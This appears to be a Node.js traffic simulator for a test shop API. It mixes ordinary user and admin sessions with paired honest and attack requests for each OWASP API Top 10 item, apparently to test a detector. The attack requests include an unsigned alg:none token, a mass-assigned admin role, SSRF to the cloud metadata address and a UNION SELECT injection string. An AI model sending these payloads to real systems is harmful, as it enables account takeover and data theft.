// The shop's people: 24 users and 3 administrators, each with an address, a browser and habits; and
// then, one after the other, an honest deed and its evil twin for each item.
//
// people.js SECONDS RATE: so long, with so many requests a second, before the deeds. Those who do
// them rest before, the others go on. Stands where a load balancer would: it says who the client is.
'use strict';
const http = require('node:http');

const [seconds, rate] = process.argv.slice(2).map(Number);
const SHOP = process.env.SHOP ?? 'http://shop.example:8080';
const PARTNER = process.env.PARTNER ?? 'http://partner.example:8080';
const agent = new http.Agent({ keepAlive: true, maxSockets: 64 });
const until = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
const below = (bound) => Math.floor(Math.random() * bound);
const isOneIn = (many) => below(many) === 0;
const pick = (list) => list[below(list.length)];

const people = [];
for (let id = 1; id <= 24; id++) people.push({ name: `user${id}` });
for (let id = 101; id <= 103; id++) people.push({ name: `admin${id}`, isAdmin: true });
people.forEach((person, place) => {
  const number = person.name.replace(/\D/g, '');
  Object.assign(person, { orders: [], client: `198.51.${number}.7`, browser: `Mozilla/5.0 (browser ${place % 5})` });
});
const named = (name) => people.find((person) => person.name === name);
let asked = 0;

// What is asked by `person`, without a pause; gives status and what was answered.
function ask(person, method, path, sent, given = {}) {
  const headers = {
    'user-agent': person.browser, 'x-forwarded-for': person.client, 'x-forwarded-proto': 'https',
    ...(person.token && { authorization: `Bearer ${person.token}` }),
    ...(sent !== undefined && { 'content-type': 'application/json' }), ...given,
  };
  asked += 1;
  return new Promise((resolve, reject) => {
    const request = http.request(SHOP + path, { method, headers, agent }, (response) => {
      let content = '';
      response.on('data', (piece) => { content += piece; });
      response.on('end', () => resolve({ status: response.statusCode, ...JSON.parse(content) }));
    });
    request.on('error', reject);
    request.end(typeof sent === 'string' ? sent : JSON.stringify(sent));
  });
}

// As `ask`, after as long as people take.
async function unhurried(person, ...request) {
  await until((people.length * 1000 / rate) * (0.4 + Math.random() * 1.2));
  return ask(person, ...request);
}

async function logIn(person) {
  delete person.token;
  const password = () => isOneIn(25) ? `pw-${below(1000)}` : `pw-${person.name}`;
  while (!person.token) {
    const login = { username: person.name, password: password() };
    person.token = (await unhurried(person, 'POST', '/api/v2/login', login)).token;
  }
}

async function look(person) {
  await unhurried(person, 'GET', `/api/v2/products?page=${below(6)}&limit=${pick([10, 20, 20, 50])}`);
  await unhurried(person, 'GET', `/api/v2/products/shoe-${below(40)}`);
}

const buy = async (person, get = unhurried) => {
  await get(person, 'POST', '/api/v2/cart', { product: `shoe-${below(40)}`, quantity: 1 + below(3) });
  const { order_id } = await get(person, 'POST', '/api/v2/checkout', { address: `Main Street ${1 + below(90)}` });
  person.orders = [...person.orders.slice(-9), order_id];
  await get(person, 'POST', '/api/v2/payments', { order_id, amount: 10 + below(200) });
};

async function session(person) {
  if (!person.token || isOneIn(4)) await logIn(person);
  await look(person);
  if (isOneIn(2)) await buy(person);
  await unhurried(person, 'GET', '/api/v2/orders');
  if (person.orders.length) await unhurried(person, 'GET', `/api/v2/orders/${pick(person.orders)}`);
  if (isOneIn(2)) {
    await unhurried(person, 'GET', '/api/v2/profile');
    await unhurried(person, 'PATCH', '/api/v2/profile', { name: person.name, avatar: `cat${below(30)}.png` });
  }
  if (isOneIn(6)) await unhurried(person, 'POST', '/api/v2/avatar', { url: `${PARTNER}/pictures/cat${below(30)}.png` });
  if (!person.isAdmin) return;
  await unhurried(person, 'GET', '/api/v2/admin/users');
  await unhurried(person, 'GET', '/api/v2/admin/reports');
  if (isOneIn(3)) await unhurried(person, 'DELETE', `/api/v2/admin/users/${900 + below(50)}`);
}

async function live(person) {
  while (!person.rests) await session(person);
}

const control = (note) => new Promise((resolve, reject) => {
  http.get(`${PARTNER}/control?note=${encodeURIComponent(note)}`, (got) => got.resume().on('end', resolve)).on('error', reject);
});
const unsigned = (name) => [{ alg: 'none' }, { sub: name, exp: Math.floor(Date.now() / 1000) + 9e4 }]
  .map((part) => Buffer.from(JSON.stringify(part)).toString('base64url')).join('.') + '.';

// Each item: what the twin does, and what the attacker. They are people of whom much is known.
const deeds = {
  API1: [
    (twin) => ask(twin, 'GET', `/api/v2/orders/${twin.orders.at(-1)}`),
    (evil) => ask(evil, 'GET', `/api/v2/orders/${named('user24').orders.at(-1)}`),
  ],
  API2: [
    (twin) => ask(twin, 'GET', '/api/v2/profile'),
    (evil) => ask({ ...evil, token: unsigned(evil.name) }, 'GET', '/api/v2/profile'),
  ],
  API3: [
    (twin) => ask(twin, 'PATCH', '/api/v2/profile', { name: twin.name, avatar: 'dog1.png' }),
    (evil) => ask(evil, 'PATCH', '/api/v2/profile', { name: evil.name, avatar: 'dog1.png', role: 'admin' }),
  ],
  API4: [
    (twin) => ask(twin, 'GET', '/api/v2/products?page=1&limit=100'),
    (evil) => ask(evil, 'GET', '/api/v2/products?page=1&limit=100000'),
  ],
  API5: [
    () => ask(named('admin102'), 'DELETE', '/api/v2/admin/users/950'),
    (evil) => ask(evil, 'DELETE', '/api/v2/admin/users/950'),
  ],
  API6: [
    (twin) => buy(twin),
    async (evil) => {
      await ask(evil, 'POST', '/api/v2/cart', { product: 'shoe-1', quantity: 1 });
      await ask(evil, 'POST', '/api/v2/payments', { order_id: evil.orders.at(-1), amount: 1 });
    },
  ],
  API7: [
    (twin) => ask(twin, 'POST', '/api/v2/avatar', { url: `${PARTNER}/pictures/dog1.png` }),
    (evil) => ask(evil, 'POST', '/api/v2/avatar', { url: 'http://169.254.169.254/latest/meta-data/' }),
  ],
  API8: [
    (twin) => ask(twin, 'POST', '/api/v2/cart', { product: 'shoe-1', quantity: 'two' }),
    (evil) => ask(evil, 'POST', '/api/v2/cart', '{"product":"shoe-1","quantity":'),
  ],
  API9: [
    (twin) => ask(twin, 'GET', '/api/v2/products/shoe-399'),
    (evil) => ask(evil, 'GET', '/api/v1/orders'),
  ],
  API10: [
    async (twin) => {
      await control("mid-market, by O'Brien & Sons");
      await ask(twin, 'GET', '/api/v2/products/shoe-7');
    },
    async (evil) => {
      await control("' UNION SELECT name, secret FROM users --");
      await ask(evil, 'GET', '/api/v2/products/shoe-7');
      await control('mid-market');
    },
  ],
};

async function main() {
  for (const person of people) person.life = live(person);
  await Promise.race([until(seconds * 1000), ...people.map(({ life }) => life)]);
  const learned = asked;
  const doers = people.slice(0, 20);
  for (const person of doers) person.rests = true;
  await Promise.all(doers.map(({ life }) => life));
  const pause = () => until(people.length * 1000 / rate);
  for (const [place, [item, [honest, evil]]] of Object.entries(deeds).entries()) {
    await honest(named(`user${11 + place}`));
    await pause();
    await evil(named(`user${1 + place}`));
    await pause();
    console.log(`people: ${item} done`);
  }
  console.log(`people: ${learned} requests of ${people.length} principals in ${seconds} s were learned`);
  process.exit(0);
}
main().catch((error) => { console.error(error); process.exit(1); });
